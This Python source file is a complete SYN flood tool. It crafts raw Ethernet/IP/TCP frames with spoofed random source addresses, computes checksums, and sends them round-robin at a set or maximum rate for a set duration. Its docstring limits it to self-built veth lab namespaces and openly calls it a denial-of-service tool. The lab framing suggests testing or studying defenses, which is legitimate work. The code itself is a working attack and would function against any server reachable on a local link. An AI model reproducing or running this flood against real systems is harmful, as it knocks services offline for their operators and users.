#!/usr/bin/env python3
"""A flood of spoofed TCP SYNs, as raw Ethernet frames on one interface (lab use only).

Each SYN comes from a random address of --sources (addresses nobody has: the server's
SYN-ACKs go back to this interface's MAC and are dropped by its kernel, since the
address is not its own) and a random port, with a random initial sequence number. The
frames are built once (--distinct of them) and sent round-robin, at --rate frames per
second (0: as fast as one Python thread can), for --duration seconds.

Python's standard library only (an AF_PACKET socket): it runs wherever the veth lab does.
Needs root (or CAP_NET_RAW). Prints one JSON line at the end: frames sent, seconds,
achieved rate.

Only ever point it at an interface of a lab you built (a veth inside a network namespace
of your own): it is a denial-of-service tool.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frame(src_mac: bytes, dst_mac: bytes, src: bytes, dst: bytes, sport: int, dport: int, isn: int) -> bytes:
    # TCP: header of 24 bytes (an MSS option of 1460), SYN, window 64240.
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, 6 << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--iface", required=True, help="the lab interface to send on")
    parser.add_argument("--dst", required=True, help="the server's IPv4 address")
    parser.add_argument("--port", type=int, default=9500)
    parser.add_argument("--dst-mac", required=True, help="the server's MAC (aa:bb:cc:dd:ee:ff)")
    parser.add_argument("--sources", default="10.99.0.0/16", help="spoofed source network")
    parser.add_argument("--rate", type=float, default=0, help="frames per second (0: flat out)")
    parser.add_argument("--duration", type=float, default=5.0, help="seconds")
    parser.add_argument("--distinct", type=int, default=65536, help="different SYNs to cycle through")
    args = parser.parse_args()

    net = ipaddress.ip_network(args.sources)
    if net.num_addresses < 2:
        print("syn-flood: --sources must hold more than one address", file=sys.stderr)
        return 2
    # The interface's own MAC, from the bound socket (sysfs shows the namespace it was
    # mounted in, not necessarily ours).
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    src_mac = s.getsockname()[4]
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    if len(dst_mac) != 6:
        print(f"syn-flood: bad --dst-mac {args.dst_mac!r}", file=sys.stderr)
        return 2
    dst = socket.inet_aton(args.dst)
    base = int(net.network_address)
    rng = random.Random(7)
    frames = [
        syn_frame(
            src_mac,
            dst_mac,
            struct.pack("!I", base + rng.randrange(1, net.num_addresses - 1)),
            dst,
            rng.randrange(1024, 65536),
            args.port,
            rng.getrandbits(32),
        )
        for _ in range(max(1, args.distinct))
    ]

    send = s.send
    sent = 0
    batch = 256
    start = time.monotonic()
    end = start + args.duration
    n = len(frames)
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if args.rate > 0:
            due = int((now - start) * args.rate)
            if sent >= due:
                time.sleep(min(0.001, end - now))
                continue
            count = min(batch, due - sent)
        else:
            count = batch
        for _ in range(count):
            try:
                send(frames[i])
            except BlockingIOError:
                continue
            except OSError as e:  # ENOBUFS: the veth's queue is full; drop and go on
                if e.errno != 105:
                    raise
                continue
            sent += 1
            i = i + 1 if i + 1 < n else 0
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
